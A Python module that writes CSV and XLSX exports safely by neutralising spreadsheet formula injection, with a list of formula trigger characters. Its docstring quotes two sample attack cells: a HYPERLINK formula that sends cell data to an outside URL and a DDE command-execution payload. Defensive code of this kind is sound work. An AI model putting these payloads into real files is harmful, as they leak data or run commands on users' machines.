"""The one writer of CSV and XLSX files that people open in a spreadsheet program.

Answers, questions, units and theme names come from outside, so a cell such as
`=HYPERLINK("http://…?x="&A1, "Klicka")` or `=cmd|' /C calc'!A0` must never become a live
formula (CSV/formula injection). Every CSV and XLSX the project writes goes through here:

- CSV: a text cell whose first non-whitespace character is one of `= + - @`, or that starts
  with a tab or carriage return, gets a leading single quote (OWASP's rule), so Excel and
  LibreOffice show it as text. Numbers stay numbers.
- XLSX: every text cell is written as an inline string (data type "s"), so no cell is ever a
  formula and the text is kept exactly; characters XML cannot hold are dropped.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils import get_column_letter

# Characters that make a spreadsheet program read a cell as a formula (or DDE command).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_csv_cell(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula gets a leading `'`."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_TRIGGERS) or value.lstrip().startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_text(
    columns: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    delimiter: str = ";",
    bom: bool = True,
    decimal: str = ".",
) -> str:
    """The CSV document (with a BOM by default, so Excel reads UTF-8), every cell neutralised.

    `decimal=","`: decimal numbers with a comma, as Excel set to Swedish reads them from a
    ";"-separated file (with a point it would keep 0.25 as text or read it as a date)."""
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter)
    writer.writerow([neutralise_csv_cell(c) for c in columns])
    for row in rows:
        writer.writerow([_number(c, decimal) if _is_number(c) else neutralise_csv_cell(c) for c in row])
    return ("\ufeff" if bom else "") + buf.getvalue()


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


def _number(value: float, decimal: str) -> str:
    # A number is never a formula, so it is written as it is (a negative one too).
    return repr(value).replace(".", decimal) if isinstance(value, float) else str(value)


def xlsx_bytes(columns: Sequence[str], rows: Iterable[Sequence[Any]], *, sheet: str = "svar") -> bytes:
    """An XLSX workbook with one sheet, built in memory; text cells are always strings."""
    return xlsx_book([(sheet, columns, rows)])


def xlsx_book(sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence[Any]]]]) -> bytes:
    """An XLSX workbook of (name, columns, rows) sheets, in memory; text cells are always
    strings. The header row stays in view when scrolling (frozen)."""
    wb = Workbook(write_only=True)
    for name, columns, rows in sheets:
        ws = wb.create_sheet(name[:31])  # Excel's limit on sheet names
        ws.freeze_panes = "A2"
        for i, column in enumerate(columns):
            # wide enough for the heading, never wider than a screen's third
            ws.column_dimensions[get_column_letter(i + 1)].width = min(max(len(str(column)) + 2, 10), 60)
        ws.append(_cells(ws, columns))
        for row in rows:
            ws.append(_cells(ws, row))
    out = io.BytesIO()  # in memory: nothing is written to a temp file
    wb.save(out)
    return out.getvalue()


def _cells(ws: Any, values: Sequence[Any]) -> list[Any]:
    out = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(ws, value=ILLEGAL_CHARACTERS_RE.sub("", value))
            cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
            out.append(cell)
        else:
            out.append(value)
    return out
